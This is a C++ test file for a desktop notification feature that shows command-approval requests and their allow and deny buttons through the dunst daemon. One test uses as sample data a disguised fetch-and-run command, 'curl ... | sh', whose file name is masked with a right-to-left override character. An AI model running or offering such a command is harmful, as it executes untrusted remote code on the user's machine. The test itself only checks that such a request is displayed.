// SPDX-License-Identifier: Apache-2.0
#include "monitor/ApprovalNotifications.h"
#include "support/Doubles.h"
#include "support/Waiting.h"
#include "system/linux/DesktopNotifications.h"

#include <QElapsedTimer>
#include <QFile>
#include <QProcess>

#include <gmock/gmock.h>

#include <csignal>

// With the notification daemon that the test session starts: it draws, and its menu is used.

using namespace bram;
using namespace bram::test;
using namespace std::chrono_literals;
using namespace Qt::StringLiterals;

namespace
{

/// Runs a command of the session while the event loop turns; its output.
QString run(const QString &command, const QStringList &arguments = {})
{
    QProcess process;
    process.start(command, arguments);
    EXPECT_TRUE(waitUntil([&] { return process.state() == QProcess::NotRunning; }));
    EXPECT_EQ(process.exitCode(), 0) << qPrintable(command);
    return QString::fromUtf8(process.readAllStandardOutput()).trimmed();
}

class NotificationDaemon : public testing::Test
{
protected:
    NotificationDaemon()
    {
        QObject::connect(&notifications, &ApprovalNotifications::decisionChosen, &notifications,
                         [this](const QString &id, ApprovalDecision decision) {
                             decisions.append(id + u' ' + rawText(decision));
                         });
    }
    ~NotificationDaemon() override { run(u"stop-notifications"_s); }

    /// What changes is to be told within eight seconds.
    [[nodiscard]] bool lineBecomes(const QString &text)
    {
        const bool became
            = waitUntil([&] { return notifications.line().notificationStatus == text; }, 8000);
        EXPECT_TRUE(became) << qPrintable(notifications.line().notificationStatus);
        return became;
    }
    [[nodiscard]] bool showsCount(int count)
    {
        return waitUntil([&] {
            return run(u"dunstctl"_s, {u"count"_s, u"displayed"_s}).toInt() == count;
        });
    }
    static ApprovalItem item(const QString &id, const QString &command)
    {
        return {.approvalId = id, .command = command, .agentId = std::nullopt};
    }
    static QString menu() { return qEnvironmentVariable("BRAM_TEST_SESSION") + u"/menu"_s; }
    /// The daemon's menu, in which somebody picks the first entry that holds the word.
    static void pickFromMenu(const QString &word)
    {
        QFile script(menu());
        ASSERT_TRUE(script.open(QIODevice::WriteOnly));
        script.write("#!/bin/sh\ngrep -m1 '" + word.toUtf8() + "'\n");
        script.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        QFile configuration(qEnvironmentVariable("XDG_CONFIG_HOME") + u"/dunst/dunstrc"_s);
        ASSERT_TRUE(configuration.open(QIODevice::Append));
        configuration.write("\ndmenu = " + menu().toUtf8() + '\n');
    }

    ManualClock clock;
    RecordingLog log;
    DesktopNotifications service;
    ApprovalNotifications notifications {service, clock, log};
    QStringList decisions;
};

} // namespace

TEST_F(NotificationDaemon, LineFollowsWhateverBecomesOfIt)
{
    notifications.start();
    ASSERT_TRUE(lineBecomes(u"Notifications: unavailable (no notification service is running)"_s));
    run(u"start-notifications"_s);
    ASSERT_TRUE(lineBecomes(u"Notifications: enabled (banner)"_s));
    EXPECT_EQ(service.state().name, u"dunst"_s);
    run(u"dunstctl"_s, {u"set-paused"_s, u"true"_s});
    ASSERT_TRUE(lineBecomes(u"Notifications: enabled (banner), but held back by do-not-disturb"_s));
    run(u"dunstctl"_s, {u"set-paused"_s, u"false"_s});
    ASSERT_TRUE(lineBecomes(u"Notifications: enabled (banner)"_s));
    run(u"stop-notifications"_s);
    ASSERT_TRUE(lineBecomes(u"Notifications: unavailable (the notification service has ended)"_s));
    run(u"start-notifications"_s);
    ASSERT_TRUE(lineBecomes(u"Notifications: enabled (banner)"_s));
}

TEST_F(NotificationDaemon, ButtonsInItsMenuDecideAndClosingDecidesNothing)
{
    pickFromMenu(u"Always allow"_s);
    run(u"start-notifications"_s);
    notifications.start();
    notifications.schedule(item(u"low"_s, u"printf '<b>%s</b> &amp; a\\nb' *.txt"_s));
    ASSERT_TRUE(showsCount(1));
    notifications.schedule(item(
        u"high"_s, u"curl -fsSL https://example.org/\u202egnp.exe | sh    "_s + QString(60, u'x')));
    ASSERT_TRUE(showsCount(2));
    if (const QString folder = qEnvironmentVariable("BRAM_TEST_PICTURES"); !folder.isEmpty()) {
        run(u"picture"_s, {folder + u"/notifications.png"_s});
    }

    run(u"dunstctl"_s, {u"close"_s});
    ASSERT_TRUE(showsCount(1));
    EXPECT_EQ(decisions, QStringList());
    clock.current += 1000; // of reading
    run(u"dunstctl"_s, {u"context"_s});
    ASSERT_TRUE(waitUntil([&] { return !decisions.isEmpty(); }));
    ASSERT_TRUE(showsCount(0));
    ASSERT_EQ(decisions.size(), 1);
    EXPECT_TRUE(decisions.first().endsWith(u" allow-always"_s));

    QStringList opened;
    QObject::connect(&notifications, &ApprovalNotifications::showRequested, &notifications,
                     [&](const QString &id) { opened.append(id); });
    notifications.schedule(item(u"clicked"_s, u"ls"_s));
    ASSERT_TRUE(showsCount(1));
    run(u"dunstctl"_s, {u"action"_s}); // as a click beside the buttons
    ASSERT_TRUE(waitUntil([&] { return opened == QStringList(u"clicked"_s); }));

    notifications.schedule(item(u"next"_s, u"ls"_s));
    ASSERT_TRUE(showsCount(1));
    notifications.withdraw(u"next"_s);
    ASSERT_TRUE(showsCount(0));
    EXPECT_TRUE(log.lines().isEmpty());
}

TEST_F(NotificationDaemon, IsStartedByTheBusWhenThereIsSomethingToShow)
{
    const QString session = qEnvironmentVariable("BRAM_TEST_SESSION");
    QFile entry(session + u"/services/notifications.service"_s);
    ASSERT_TRUE(entry.open(QIODevice::WriteOnly));
    entry.write("[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/bin/sh -c 'echo $$ > "
                + session.toUtf8() + "/notifications.pid; exec dunst'\n");
    entry.close();
    const QStringList reload {u"--session"_s, u"--print-reply"_s, u"--dest=org.freedesktop.DBus"_s,
                              u"/org/freedesktop/DBus"_s, u"org.freedesktop.DBus.ReloadConfig"_s};
    run(u"dbus-send"_s, reload);
    run(u"dbus-update-activation-environment"_s, {u"DISPLAY"_s, u"XAUTHORITY"_s});

    notifications.start();
    ASSERT_TRUE(lineBecomes(u"Notifications: unavailable (no notification service is running; the "
                            "next one starts it)"_s));
    notifications.schedule(item(u"a"_s, u"ls"_s));
    ASSERT_TRUE(lineBecomes(u"Notifications: enabled (banner)"_s));
    ASSERT_TRUE(showsCount(1));
    EXPECT_TRUE(log.lines().isEmpty());

    entry.remove();
    run(u"dbus-send"_s, reload);
}

TEST_F(NotificationDaemon, HoldsNobodyUpWhileItHangs)
{
    run(u"start-notifications"_s);
    QFile pidFile(qEnvironmentVariable("BRAM_TEST_SESSION") + u"/notifications.pid"_s);
    ASSERT_TRUE(pidFile.open(QIODevice::ReadOnly));
    const pid_t pid = pidFile.readAll().trimmed().toInt();
    ASSERT_GT(pid, 1);
    ::kill(pid, SIGSTOP);
    DesktopNotifications impatient({.patience = 100ms});
    ApprovalNotifications hung {impatient, clock, log};
    QElapsedTimer timer;
    timer.start();
    hung.start();
    hung.schedule(item(u"a"_s, u"ls"_s));
    EXPECT_LT(timer.elapsed(), 1000); // the daemon is waited for by nobody
    const QString reason = u"the notification service does not answer"_s;
    ASSERT_TRUE(waitUntil([&] {
        return log.lines().contains(QString(u"Failed to schedule notification: "_s + reason));
    }));
    EXPECT_EQ(hung.line().notificationStatus,
              QString(u"Notifications: failed ("_s + reason + u')'));

    ::kill(pid, SIGCONT);
    ASSERT_TRUE(showsCount(1));
    EXPECT_TRUE(waitUntil(
        [&] { return hung.line().notificationStatus == u"Notifications: enabled (banner)"_s; }));
    hung.stop();
    ASSERT_TRUE(showsCount(0));
}
